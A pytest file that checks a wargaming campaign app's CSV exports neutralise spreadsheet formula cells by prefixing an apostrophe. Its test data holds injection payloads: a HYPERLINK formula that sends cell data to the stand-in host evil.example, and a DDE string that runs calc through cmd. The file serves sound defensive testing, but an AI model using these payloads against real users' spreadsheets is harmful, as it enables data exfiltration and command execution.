"""Issue 25, finding 4: a cell of a CSV export that a spreadsheet would run as a formula.

A player renames their warband (or a figure) to `=HYPERLINK(...)`; the organiser's rosters.csv
and league.csv must hand it over as text: every cell beginning with `=`, `+`, `-`, `@`, a tab
or a carriage return is neutralised (a leading `'`), and the rest of the cell is kept.
"""

from __future__ import annotations

import csv
import io

import pytest

from campaign.models import Figure, Warband
from tests.campaign.games_support import signed_in

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
STARTS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _rows(response) -> list[dict]:
    assert response.status_code == 200, response.content
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


@pytest.mark.parametrize("name", STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_finding_4_the_rosters_and_league_csv_neutralise_formula_cells(
    campaign, battle, organiser, war_party, name
):
    # Written past the forms (names refuse control characters since finding 5): old rows, say.
    Warband.objects.filter(pk=war_party.pk).update(name=name)
    Figure.objects.filter(warband=war_party, name="Red Hawk").update(name=name)
    client = signed_in(organiser)

    rosters = _rows(client.get(f"/api/campaigns/{campaign.id}/export/rosters.csv"))
    league = _rows(client.get(f"/api/campaigns/{campaign.id}/export/league.csv"))

    def named(cell: str) -> bool:  # the cell as typed, whatever prefix or escape it got
        return cell.lstrip("'").replace("\\|", "|") == name

    cells = [r["Warband"] for r in rosters + league if named(r["Warband"])]
    cells += [r["Figure"] for r in rosters if named(r["Figure"])]
    assert len(cells) >= 3  # the warband on its figures' lines and in the league, the figure
    # defusedcsv also escapes a pipe (`|` to `\\|`, a DDE separator); the rest is kept as typed
    assert all(cell.startswith("'") and cell[1:].replace("\\|", "|") == name for cell in cells)


def test_finding_4_numbers_and_plain_names_are_left_as_they_are(campaign, battle, organiser):
    client = signed_in(organiser)
    league = _rows(client.get(f"/api/campaigns/{campaign.id}/export/league.csv"))
    assert {r["Warband"] for r in league} == {"Magalakutway", "The 44th Foot Patrol"}
    assert all(not r["Played"].startswith("'") for r in league)
